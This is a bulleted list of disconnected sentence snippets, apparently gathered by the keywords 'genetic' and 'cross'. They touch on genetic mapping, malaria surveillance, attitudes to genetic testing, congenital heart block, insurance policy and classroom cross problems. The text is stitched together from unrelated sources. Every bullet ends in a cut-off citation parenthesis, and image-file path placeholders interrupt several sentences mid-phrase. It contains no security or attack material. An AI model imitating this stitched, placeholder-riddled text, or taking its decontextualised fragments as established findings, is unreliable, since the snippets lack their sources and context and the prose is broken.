  • The Cross River region was shown to be extremely homogenous for both Y-chromosome and mtDNA markers with languagespoken having no noticeable effect on the genetic structure of the region, consistent with estimates of inter-language gene flow of 10% per generation based on sociological data. (
  • Pheno2Geno excludes candidate genetic markers that show evidence for multiple possibly epistatically interacting QTL and/or interaction with the environment, in order to provide a set of robust markers for follow-up QTL mapping. (
  • It requires polymorphic genetic markers positioned on a genetic map. (
  • Distorted markers were found distributed throughout the genetic linkage map, leading to the hypothesis that distortion was caused by the high level of genomic divergence between the parental isolates. (
  • Thin grey lines connect the genetic position of each marker (3,184 mSFP and 254 microsatellite markers) with their mapped physical positions on the chromosome. (
  • Theoretical limit of resolution depends on the size of the genome, size of the population and type of the cross. (
  • A total of 1000 individuals, reflecting a cross-section of the population and capturing the main genetic structure, were selected for whole-genome sequencing. (
  • To gain more insight into the potential threat of Asian EV-71 outbreak strains for the European population and the potential treatment efficacy of IVIg, we determined the cross-neutralizing capacity of IVIg batches composed of plasma from the general population of the Netherlands during 2005-2014 against EV-71 subtypes circulatingin Europe or Asia and compared results to IVIg batches from Japanese and Vietnamese donors. (
  • In an admixed population of older Cubans we explored the effects of ethnic identity and genetic admixture on APOE genotype, its association with dementia, and dementia prevalence. (
  • Blue Cross officials say their new plan resembles the individual policies available before the ACA and is designed to provide an affordable option with quality coverage for a segment of the population that's currently underserved. (
  • It's important to understand the limitations of genetic testing and how the test results might be used before getting tested. (
  • Results In the hypertension and non-hypertension groups, 323 (55.9%) and 509 patients (45.2%), respectively, were willing to undergo genetic testing. (• Our results provide a framework for incorporating genetic data into malaria surveillance and provide evidence that both strengthening of local interventions and regional coordination are likely necessary to eliminate malaria in this region of Southern Africa. (
  • also supports these results, showing that, in Bangladesh, combining genetic data with travel history and mobile phone records helps to track how malaria spreads. (
  • Results: The 26 regions previously associated with cross-sectional lung function jointly showed a strong effect on baseline lung function (p=4.44×10−16 for FEV1/FVC) but no effect on longitudinal decline (p=0.160 for FEV1/FVC). (
  • Many of the strides made in genetic diagnostics are direct results of the Human Genome Project, an international thirteen-year effort begun in 1990 by the U.S. Department of Energy and the National Institutes of Health, which mapped and sequenced the human genome in its entirety. (
  • A genetic linkage map was produced using Amplified Fragment Length Polymorphisms (AFLPs) and twelve linkage groups were identified. (
  • E. Given the 2n equation predict how many different genetic outcomes will be possible from an F1 cross resulting in the F2 generation in a dihybrid corn cross. (
  • Identifying these genetic factors should significantly improve our ability to predict of osteoporosis and its associated risks. (
  • C. Would it make a difference in the outcome of this cross if the genotype of one parent is PPss and the other is ppSS? (
  • Primary and secondary outcome measures The primary outcome variable was the willingness to undergo genetic testing to determine the risk of salt-sensitive hypertension, and the secondary variables were age, sex, education level, family history and concerns about hypertension. (• CHB occurs in 1-2% of anti-Ro/SSA antibody-positive pregnancies and has a recurrence rate of 12-20% in a subsequent pregnancy, suggesting that additional factors, such as genetic and environmental components may determine the outcome in terms of CHB development in autoantibody exposed fetuses. (
  • Genetic Risk Outcome of Psychosis (GROUP) Consortium (2013). (
  • I decided to experiment with the Genetic Optimizer Extension and I have run into a problem. (
  • ooops, wrong genetic experiment! (
  • EffectiveAugust 29, 2019 , Horizon BCBSNJ will change the way we consider certain professional claims based on the inclusion of Horizon BCBSNJ Medicare Advantage (MA) plans within the scope of our medical policy Genetic Testing for Warfarin Dose . (
  • C polymorphisms with the risk of adolescent idiopathic scoliosis: a systematic review and genetic metaanalysis. (
  • There are two main methods to reduce oxidative stress and genetic damage in COWs: reduce toxin exposure and inhibit the toxic action of genotoxic chemicals. (
  • It discusses the methods to increase seed stocks of cross-pollinated species. (
  • The crosses are a great proving ground for variant calling methods. (
  • This supports the finding that genetic factors have significant influence on vitamin D status. (
  • Obsessive-compulsive disorder (OCD) and Tourette's syndrome are highly heritable neurodevelopmental disorders that are thought to share genetic risk factors. (
  • Factors associated with a willingness to undergo genetic testing were evaluated in patients with and without hypertension using a logistic regression model. (
  • Unidentified confounding factors may have affected the association between the willingness to undergo genetic testing and family medical history. (
  • Here, we evaluated whether this phenomenon might be explained by shared genetic risk factors. (
  • For example, people who are found to be especially susceptible to genetic conditions with specific environmental triggers are advised to avoid the environmental factors linked to developing the disease. (
  • Polygenic score analyses were conducted to investigate the genetic architecture within and across the two disorders. (
  • The aim of the proposed project is to investigate cross-cultural and ethnic differences of human behaviour in crisis situations in order to better tailor security related communication, instructions andprocedures with a view to improving evacuation and protection. (
  • Because malaria parasites have sex, they can be crossed. (
  • Logistic regression analyses were performed to examine the associations between family history and willingness to undergo genetic testing in patients with and without hypertension. (
  • Factor analyses were performed to explore the associations between different dietary patterns and parameters of oxidative stress and genetic damage. (
  • Most cancers develop as a result of genetic damage or a change (mutation) that happens sometime during aperson's lifetime. (
  • it has been suggested that the farmers of Piétrain may have recognised, and selectively bred for, a genetic mutation causing muscular hypertrophy. (
  • It told him he had a mutation linked to Lynch Syndome , a genetic disorder that leads to potentially deadly cancers at an early age. (
  • Crosses, Genetic" is a descriptor in the National Library of Medicine's controlled vocabulary thesaurus, MeSH (Medical Subject Headings) . (
  • In this thesis, an interspecific cross between Fusarium circinatum and Fusarium subglutinans, both members of the G. fujikuroi species complex, were examined. (
  • Pollen dispersal in rye (Secale cereale L.): Research activities on isolation problems of cross-pollinated species of genebank material 19. (
  • Cross pollination occurs in about ¾ of the flowering plant species. (
  • See cross species paper list . (
  • Genetic risks and outcomes can come from either parent. (
  • Here we present the genomes of the CC strains using two complementary approaches as a resource to improve power and interpretation of genetic experiments. (
  • Like all diagnostic and screening tests, the quality and utility of genetic tests depend on their reliability, validity, sensitivity, specificity, positive predictive value, and negative predictive value. (
  • Conclusions The influence of family history on the willingness to undergo genetic testing for risk of salt-sensitivity hypertension differed between participants with and without hypertension. (
  • Six selected SSRs from M. truncatula were used to fingerprint and estimate the genetic similarity of a set of 23 accessions of O. viciifolia. (
  • Objective We aimed to estimate genetic correlation, identify shared loci and test causality between leptin levels and type 2 diabetes (T2D). (
  • Familialadenomatous polyposis is an inherited genetic disease, which is characterized by colorectal polyps. (
  • Centre for Cancer Genetic Epidemiology, Department of Public Health and Primary Care, University of Cambridge, Cambridge, United Kingdom. (
  • It was found that crosses between common wheat and inbred self-fertile rye lines L2 and 535 gave rise to ungerminating grains, in which the development and differentiation of the hybrid embryo are arrested. (
  • Genetic differentiation at nuSSRs was inferred using Bayesian clustering. (
  • Despite the long-established association of maternal antibodies in directly inducing CHB both with in vitro and in vivo studies, the pathogenic mechanisms involved remain unclear and identification of cross-reactive targets of anti-Ro52 antibodies in the fetal heart is matter of debate. (
  • If you are believed to be at risk for a hereditary cancer syndrome, genetic testing can be helpful. (
  • Or a woman may have a genetic risk of developing breast cancer. (
  • A number of genetic problems or defects can result in an increased risk for breast cancer. (
  • Risk-taking behaviour shared significant genetic risk with schizophrenia, bipolar disorder, attention-deficit hyperactivity disorder, and post-traumatic stress disorder, as well as with smoking and totalobesity. (
  • Among the targets, cross-reactivity was studied in detail for TG and GAK, forwhich reactivity was showed bothat the peptide and whole protein level with anti-p200 monoclonal antibodies and with sera from mothers whose children have CHB, suggesting that reactivity to these protein could represent a risk factor for development of CHB in the fetuses in anti-Ro/SSA-positive pregnancies. (
  •Ross suggested that if you're truly curious abour your genetic risk for disease, you should see a genetic counselor. (
  • Genome Research has published three articles online in-advance utilizing strains from the emerging Collaborative Cross mouse strains. (
  • APOE genotype wasdetermined in 2520 participants, and geneticadmixture in 235 dementiacases and 349 controls. (